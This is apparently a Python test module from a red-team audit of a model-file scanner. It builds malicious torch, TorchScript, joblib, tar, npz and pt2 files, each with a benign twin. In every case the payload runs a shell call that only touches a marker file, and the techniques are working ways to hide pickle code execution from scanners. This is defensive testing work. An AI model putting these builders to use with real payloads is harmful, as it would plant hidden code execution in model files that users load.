"""Attack techniques from a red-team audit of the scanner, each with its benign twin.

Each one is a place where modelport read a file differently from its loader: a torch zip
whose prefix is ``data`` (so ``data/data.pkl`` looks like a tensor storage), member names
that torch's zip lookup matches ignoring case, joblib's array bytes that every loader but
joblib runs as opcodes, tar members that ``tarfile`` reads and a hand-written walker skips,
joblib's ``ZF`` length without ``0x``, and a protocol-4 dotted name that walks through a
module to ``subprocess``.

"""

from __future__ import annotations

import io
import json
import lzma
import os
import pickle
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import numpy as np
import torch

from tests.attacks.technique import (
    JOBLIB,
    PICKLE,
    TORCH_EXPORT,
    TORCH_JIT,
    TORCH_UNSAFE,
    Make,
    Technique,
    file_technique,
)
from tests.attacks.writers import (
    OBJECT_DTYPE,
    _exported,
    _scripted,
    _sealed,
    _tar_header,
    _torch_save,
    dtype,
    float_npy,
    global_,
    joblib_stream,
    legacy_tar_members,
    object_npy,
    plain,
    shell,
    shell2,
    text,
    torch_zip,
    torchscript,
    touch,
    write,
    zip_archive,
)

# -- torch zips whose prefix is "data" -------------------------------------------------------------


class _Shell:
    """Pickles as ``os.system("touch MARKER")``: what torch.save writes for an object whose
    ``__reduce__`` names a shell call."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return (os.system, (touch(self.marker),))


def _saved_as_data(tmp: Path, marker: Path | None) -> Path:
    """torch.save to ``data.pt``: torch names the archive's prefix after the file, so the
    main pickle is ``data/data.pkl`` and the storages ``data/data/<key>``."""
    state: dict[str, object] = {"weight": torch.arange(4, dtype=torch.float32)}
    if marker is not None:
        state["hook"] = _Shell(marker)
    path = tmp / "data.pt"
    torch.save(state, path)
    return path


def _members(raw: bytes) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def _case_folded_pickle(marker: Path | None) -> bytes:
    """Prefix ``data``; the main pickle stored as ``data/data.PKL`` (miniz's lookup, which
    torch uses, ignores case) and a benign ``data/zz/data.pkl`` that names no tensor, so the
    archive still reads as a torch zip. The twin is the plain archive."""
    members = [(f"data/{n.partition('/')[2]}", d) for n, d in _members(torch_zip())]
    if marker is None:
        return zip_archive(members)
    renamed = {"data/data.pkl": ("data/data.PKL", shell2(marker))}
    evil = [renamed.get(name, (name, data)) for name, data in members]
    return zip_archive([*evil, ("data/zz/data.pkl", plain(2))])


# -- TorchScript code under case-changed names -----------------------------------------------------


def _script_renamed(rename: Callable[[str], str]) -> Make:
    """The scripted module, its code member renamed; with a marker, ``__setstate__`` (run by
    torch.jit.load) calls torch.save on a path under the marker, then torch.from_file on it.
    That native save fails silently where the marker is no folder; from_file's error,
    naming the path, shows the load got past the save."""

    def make(marker: Path | None) -> bytes:
        line = None
        if marker is not None:
            target = marker / "inside"
            line = (
                "    self.weight = (state)[0]\n"
                f'    torch.save(self.weight, "{target}")\n'
                f'    self.weight = torch.from_file("{target}", False, 2)\n'
            )
        return zip_archive([(rename(n), d) for n, d in _members(torchscript(line))])

    return make


def _upper_extension(name: str) -> str:
    return name[: -len(".py")] + ".PY" if name.endswith(".py") else name


def _upper_code_folder(name: str) -> str:
    return name.replace("/code/", "/CODE/", 1)


# -- joblib's array wrapper read by pickle.load ----------------------------------------------------

_U1 = dtype("u1", b"(K\x03V|\nNNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb")


def _wrapped_opcodes(marker: Path | None) -> bytes:
    """joblib's NumpyArrayWrapper for a uint8 array whose bytes are opcodes: POP the
    wrapper, then os.system("touch MARKER"). joblib.load reads them as the array;
    pickle.load and torch.load run them. The twin's array bytes are all STOP."""
    if marker is None:
        return joblib_stream(_U1, b"K\x04\x85", 4, b".")
    opcodes = b"0" + global_("os", "system") + text(touch(marker)) + b"\x85R"
    shape = b"M" + struct.pack("<H", len(opcodes)) + b"\x85"
    return joblib_stream(_U1, shape, 0, opcodes + b".")


# -- legacy torch tars read as tarfile reads them --------------------------------------------------

_END = b"\x00" * 1024


def _tar_member(name: bytes, data: bytes, typeflag: bytes = b"0") -> bytes:
    header = _tar_header(name, len(data), ustar=True)
    header[156:157] = typeflag
    return _sealed(header) + data + b"\x00" * (-len(data) % 512)


def _pax_record(key: str, value: str) -> bytes:
    """``"<length> <key>=<value>\\n"``, the length counting its own digits."""
    body = f" {key}={value}\n"
    length = len(body)
    while len(str(length)) + len(body) != length:
        length = len(str(length)) + len(body)
    return f"{length}{body}".encode()


def _legacy_members(skip: bytes = b"") -> bytes:
    """torch 0.1-0.3's benign members but ``skip``, ustar headers, no end blocks yet."""
    return b"".join(_tar_member(n, data) for n, data in legacy_tar_members() if n != skip)


def _benign_storages() -> bytes:
    return dict(legacy_tar_members())[b"storages"]


def _contiguous_storages(marker: Path | None) -> bytes:
    """A second ``storages`` member of type '7' (contiguous file): tarfile reads it as a
    regular file and torch extracts the last member of a name. The twin's is its only
    ``storages`` (a name listed twice is suspicious in itself), benign."""
    later = _benign_storages() if marker is None else shell2(marker)
    earlier = _legacy_members(b"storages" if marker is None else b"")
    return earlier + _tar_member(b"storages", later, b"7") + _END


def _pax_sized_storages(marker: Path | None) -> bytes:
    """A pax header gives member ``junk`` size 0 while its ustar size covers a second
    ``storages`` member: tarfile honours the pax size and reads that member next. The
    twin's hidden member is its only ``storages``, benign."""
    later = _benign_storages() if marker is None else shell2(marker)
    earlier = _legacy_members(b"storages" if marker is None else b"")
    hidden = _tar_member(b"storages", later)
    records = _pax_record("size", "0")
    pax = _tar_member(b"././@PaxHeader", records, b"x")
    junk = _sealed(_tar_header(b"junk", len(hidden), ustar=True))
    return earlier + pax + junk + hidden + _END


# -- joblib's ZF format and dotted names -----------------------------------------------------------


def _zfile_bare_hex(data: bytes) -> bytes:
    """joblib's pre-0.9.3 'ZF' file with the length written ``%x``: joblib accepts any
    'ZF' start and parses the field with int(field, 16), which needs no ``0x``."""
    return b"ZF" + f"{len(data):x}".rjust(19).encode() + zlib.compress(data)


def _unicode(value: str) -> bytes:
    """SHORT_BINUNICODE: a one-byte length."""
    encoded = value.encode()
    assert len(encoded) < 256, value
    return b"\x8c" + bytes([len(encoded)]) + encoded


def _dotted_popen(marker: Path) -> bytes:
    """Protocol 4: STACK_GLOBAL("torch", "_strobelight.cli_function_profiler.subprocess.
    Popen"), which pickle resolves attribute by attribute through a module that imported
    subprocess, called with ["touch", MARKER]."""
    qualname = "_strobelight.cli_function_profiler.subprocess.Popen"
    argv = b"](" + _unicode("touch") + _unicode(str(marker)) + b"e"
    return b"\x80\x04" + _unicode("torch") + _unicode(qualname) + b"\x93" + argv + b"\x85R."


# -- a second audit: TorchScript code where storages lie, calls without "name(", folder links ------


_SETSTATE_LINE = b"    self.weight = (state)[0]\n"
_SCRIPT_MODULE = b"__torch__.tests.attacks.writers"


def _script_in_data_module(marker: Path | None) -> bytes:
    """The scripted class moved to a module named ``data.x``: its code is then
    ``code/__torch__/data/x.py``, whose folder is named like the storages' ``data/``. With
    a marker, ``__setstate__`` calls torch.from_file(MARKER/inside, shared=True), which
    would create that file: where the marker is no folder, its error names the path."""
    members = []
    for name, data in _scripted():
        name = name.replace("code/__torch__/tests/attacks/writers.py", "code/__torch__/data/x.py")
        if name.endswith((".py", ".pkl")):
            data = data.replace(_SCRIPT_MODULE, b"__torch__.data.x")
        if name.endswith(".py") and marker is not None:
            data = data.replace(
                _SETSTATE_LINE,
                f'    self.weight = torch.from_file("{marker / "inside"}", True, 2)\n'.encode(),
            )
        members.append((name, data))
    return zip_archive(members)


def _parenthesized_call(marker: Path | None) -> bytes:
    """``(torch.from_file)(MARKER/inside, True, 2)`` in ``__setstate__``: a call whose name is not
    followed by "(" but by ")"."""
    target = None if marker is None else marker / "inside"
    line = None if target is None else f'    self.weight = (torch.from_file)("{target}", True, 2)\n'
    members = list(_scripted())
    if line is not None:
        members = [
            (n, d.replace(_SETSTATE_LINE, line.encode()) if n.endswith(".py") else d)
            for n, d in members
        ]
    return zip_archive(members)


def _folder_linked_outside(tmp: Path, marker: Path | None) -> Path:
    """A pipeline folder whose ``unet/`` is a relative link to a folder outside it, where
    the weights are: the loader reads ``unet/pytorch_model.bin`` through the link."""
    weights = torch_zip() if marker is None else torch_zip(shell2(marker))
    write(tmp / "elsewhere" / "unet" / "pytorch_model.bin", weights)
    folder = tmp / "pipeline"
    write(folder / "model_index.json", b'{"unet": ["diffusers", "UNet2DConditionModel"]}')
    (folder / "unet").symlink_to(os.path.relpath(tmp / "elsewhere" / "unet", folder))
    return folder


# -- joblib: a frame that ends after its array's bytes; an LZMA header joblib's prefix takes ------


def _array_wrapper(array_dtype: bytes, count: int) -> bytes:
    """A NumpyArrayWrapper of ``count`` items built with its state (joblib's BUILD)."""
    state = (
        b"}(Vsubclass\n"
        + global_("numpy", "ndarray")
        + b"Vshape\n"
        + b"K"
        + bytes([count])
        + b"\x85"
        + b"Vorder\nVC\nVdtype\n"
        + array_dtype
        + b"Vallow_mmap\n\x89ub"
    )
    return global_("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + state


def _frame(body: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body)) + body


def _frame_split(marker: Path | None) -> bytes:
    """Protocol 4. joblib's unpickler holds each FRAME in memory and reads an array's bytes
    from the file, past the frame: so after a float array's BUILD the rest of its frame runs
    as opcodes (``os.system`` here), and the 8-byte items after the frame are the array.
    An object array first ends a reading of the file as one plain pickle before the call.
    The twin is joblib's own layout: each frame ends at its wrapper's BUILD."""
    objects = b"](" + _array_wrapper(OBJECT_DTYPE, 1)
    held = pickle.dumps(np.array([None], dtype=object), protocol=2)
    if marker is None:
        floats = _array_wrapper(dtype("f8"), 1)
        return b"\x80\x04" + _frame(objects) + held + _frame(floats) + bytes(8) + b"e."
    tail = shell(marker)[:-1] + b"0"  # the call, its result popped
    while len(tail) % 8:  # BININT1 POP makes the length even, NONE POP a multiple of 8
        tail += b"K\x000" if len(tail) % 2 else b"N0"
    floats = _array_wrapper(dtype("f8"), len(tail) // 8) + tail
    array = b"N0" * (len(tail) // 2)
    return b"\x80\x04" + _frame(objects) + held + _frame(floats) + array + b"e."


def _lzma_small_dictionary(marker: Path | None) -> bytes:
    """An LZMA-alone stream with a 4 KiB dictionary: its header is 5d 00 10 00 00, which
    joblib's two-byte prefix takes and a three-byte 5d 00 00 does not."""
    filters = [{"id": lzma.FILTER_LZMA1, "dict_size": 4096}]
    data = plain(2) if marker is None else shell2(marker)
    return lzma.compress(data, format=lzma.FORMAT_ALONE, filters=filters)


# -- a third audit: an npz member named like a storage, a joblib side file, a name in two cases ----

NPZ_ARRAYS = "import numpy as np; dict(np.load(PATH, allow_pickle=True))"


def _npz_storage_named(marker: Path | None) -> bytes:
    """An npz whose object array is stored as ``a/data/w.npy``, the name a torch archive
    gives a storage, beside a benign ``data.pkl``: numpy.load reads every ``*.npy`` member;
    torch refuses the zip (its first member is in no folder). The twin's array is floats."""
    inner = float_npy() if marker is None else object_npy(shell2(marker))
    return zip_archive(
        [("weights.npy", float_npy()), ("a/data/w.npy", inner), ("data.pkl", plain())]
    )


def joblib_side_file(tmp: Path, marker: Path | None, *, slot_state: bool = False) -> Path:
    """joblib < 0.10's layout: ``model.pkl`` holds an NDArrayWrapper naming
    ``model.pkl_01.npy`` beside it, which joblib.load reads with np.load(allow_pickle=True).
    The attack is ``model.pkl`` alone, the file a user hands to joblib.load. ``slot_state``:
    BUILD gets ``(None, state)``, whose second half pickle sets attribute by attribute."""
    state = (
        b"}(Vfilename\nVmodel.pkl_01.npy\nVsubclass\n"
        + global_("numpy", "ndarray")
        + b"Vallow_mmap\n\x89u"
    )
    state = (b"N" + state + b"\x86b") if slot_state else state + b"b"
    wrapper = global_("joblib.numpy_pickle", "NDArrayWrapper") + b")\x81" + state
    write(tmp / "model.pkl_01.npy", float_npy() if marker is None else object_npy(shell2(marker)))
    return write(tmp / "model.pkl", b"\x80\x02}Vcoef\n" + wrapper + b"s.")


def pt2_case_twin(marker: Path | None, *, twin_member: bool = True) -> bytes:
    """torch.export.save's archive, its weights config listing ``WEIGHT_0`` (use_pickle)
    before the raw ``weight_0``, whose bytes become a pickle; ``twin_member`` adds a benign
    member literally named ``WEIGHT_0`` after it. torch's lookup ignores case and picks
    among equal names by its own sort: in this archive it returns weight_0 for both names
    (checked with torch's PyTorchFileReader) and hands it to torch.load(weights_only=False).
    The twin is the plain archive."""
    members = list(_exported())
    if marker is None:
        return zip_archive(members)
    payload = shell2(marker)
    payload += b"\x00" * (-len(payload) % 4)  # whole float32 elements
    out: list[tuple[str, bytes]] = []
    for name, data in members:
        if name.endswith("/data/weights/model_weights_config.json"):
            extra = {"path_name": "WEIGHT_0", "is_param": False, "use_pickle": True}
            config = {"w_extra": {**extra, "tensor_meta": None}, **json.loads(data)["config"]}
            data = json.dumps({"config": config}).encode()
        elif name.endswith("/data/weights/weight_0"):
            out.append((name, payload))
            if twin_member:
                out.append((name[: -len("weight_0")] + "WEIGHT_0", _torch_save()))
            continue
        out.append((name, data))
    return zip_archive(out)


BYPASSES: tuple[Technique, ...] = (
    Technique(
        "torch-zip-prefix-data",
        "container",
        _saved_as_data,
        lambda tmp: _saved_as_data(tmp, None),
        TORCH_UNSAFE,
        False,
        "torch.save to data.pt: the prefix is 'data', so the main pickle is data/data.pkl, "
        "which a rule 'members under data/ are tensor bytes' never parses",
    ),
    file_technique(
        "torch-zip-member-case",
        "container",
        "data.pt",
        _case_folded_pickle,
        TORCH_UNSAFE,
        False,
        "the main pickle named data/data.PKL (torch's miniz lookup ignores case) beside a "
        "benign data/zz/data.pkl: a case-sensitive reader takes the first for a storage",
    ),
    file_technique(
        "torchscript-code-extension-case",
        "code",
        "scripted.pt",
        _script_renamed(_upper_extension),
        TORCH_JIT,
        True,
        "code/__torch__/....PY: torch.jit.load finds and compiles it (case-insensitive "
        "lookup), and its __setstate__ calls torch.save on a path the file names",
    ),
    file_technique(
        "torchscript-code-folder-case",
        "code",
        "scripted.pt",
        _script_renamed(_upper_code_folder),
        TORCH_JIT,
        True,
        "the code folder named CODE/: torch.jit.load still compiles what is under it, and "
        "its __setstate__ calls torch.save on a path the file names",
    ),
    file_technique(
        "joblib-wrapper-hides-opcodes",
        "reading",
        "model.pkl",
        _wrapped_opcodes,
        PICKLE,
        True,
        "joblib's NumpyArrayWrapper, then array bytes that are opcodes: joblib reads them as "
        "data, pickle.load runs them; a scanner that skips them as joblib does sees nothing",
    ),
    file_technique(
        "joblib-wrapper-hides-opcodes-torch-zip",
        "reading",
        "model.pt",
        lambda m: torch_zip(_wrapped_opcodes(m)),
        TORCH_UNSAFE,
        False,
        "the same wrapper and opcodes as a torch zip's data.pkl: torch.load's unpickler has "
        "no array skip and runs them",
    ),
    file_technique(
        "legacy-tar-contiguous-type",
        "container",
        "model.pt",
        _contiguous_storages,
        TORCH_UNSAFE,
        False,
        "a later 'storages' member of type '7' in torch 0.x's tar: tarfile extracts it as a "
        "regular file (the last of a name wins), a walker of types '0' and NUL skips it",
    ),
    file_technique(
        "legacy-tar-pax-size",
        "container",
        "model.pt",
        _pax_sized_storages,
        TORCH_UNSAFE,
        False,
        "a pax 'size=0' on a member whose ustar size hides a second 'storages': tarfile "
        "reads that member, a walker that trusts the ustar size jumps over it",
    ),
    file_technique(
        "joblib-zf-without-0x",
        "stream",
        "model.joblib",
        lambda m: _zfile_bare_hex(plain(2) if m is None else shell2(m)),
        JOBLIB,
        True,
        "joblib's 'ZF' file with its length in hex but no '0x': joblib.load reads it, a "
        "magic table that wants 'ZF0x' calls it unrecognised",
    ),
    file_technique(
        "dotted-global-through-module",
        "call",
        "model.pkl",
        lambda m: plain(4) if m is None else _dotted_popen(m),
        PICKLE,
        True,
        "protocol 4 resolves torch + _strobelight.cli_function_profiler.subprocess.Popen "
        "attribute by attribute: a third-party CapWords name that is subprocess.Popen",
    ),
    file_technique(
        "torchscript-code-in-data-folder",
        "code",
        "scripted.pt",
        _script_in_data_module,
        TORCH_JIT,
        True,
        "a scripted class of module data.x keeps its code in code/__torch__/data/x.py: a rule "
        "'a stored member under a data/ folder is tensor bytes' never reads it",
    ),
    file_technique(
        "torchscript-parenthesized-call",
        "code",
        "scripted.pt",
        _parenthesized_call,
        TORCH_JIT,
        True,
        "(torch.from_file)(path, True, 2) in __setstate__: a reading of calls as 'name(' "
        "misses a name in parentheses, which TorchScript calls all the same",
    ),
    file_technique(
        "joblib-frame-ends-past-array",
        "reading",
        "model.joblib",
        _frame_split,
        JOBLIB,
        True,
        "a protocol-4 FRAME that runs on past a float array's BUILD: joblib reads the array "
        "from after the frame and runs the frame's rest, which a reading in place skips",
    ),
    file_technique(
        "joblib-lzma-small-dictionary",
        "stream",
        "model.joblib",
        _lzma_small_dictionary,
        JOBLIB,
        True,
        "an LZMA-alone stream with a 4 KiB dictionary (header 5d 00 10): joblib's prefix "
        "test takes it, a magic table that wants 5d 00 00 calls it unrecognised",
    ),
    Technique(
        "folder-link-to-folder-outside",
        "directory",
        _folder_linked_outside,
        lambda tmp: _folder_linked_outside(tmp, None),
        "import torch; torch.load(PATH + '/unet/pytorch_model.bin', weights_only=False)",
        False,
        "unet/ is a link to a folder outside the pipeline's: a walk that enters no linked "
        "folder never sees the weights the loader reads through it",
    ),
    file_technique(
        "npz-member-named-like-a-storage",
        "container",
        "arrays.npz",
        _npz_storage_named,
        NPZ_ARRAYS,
        False,
        "an object array stored as a/data/w.npy beside a data.pkl: a rule 'stored members "
        "under <x>/data/ of a zip with a data.pkl are tensor bytes' skips what numpy unpickles",
    ),
    Technique(
        "joblib-side-file-beside-the-pickle",
        "directory",
        joblib_side_file,
        lambda tmp: joblib_side_file(tmp, None),
        JOBLIB,
        True,
        "model.pkl names model.pkl_01.npy, an object array joblib.load unpickles: a scan of "
        "model.pkl alone that leaves side files to a folder scan judges nothing",
    ),
    file_technique(
        "pt2-payload-name-in-other-case",
        "container",
        "model.pt2",
        pt2_case_twin,
        TORCH_EXPORT,
        True,
        "a pickled payload WEIGHT_0 beside the raw weight_0 (and a benign member WEIGHT_0): "
        "torch's lookup ignores case and unpickles weight_0, which an exact compare skips",
    ),
)
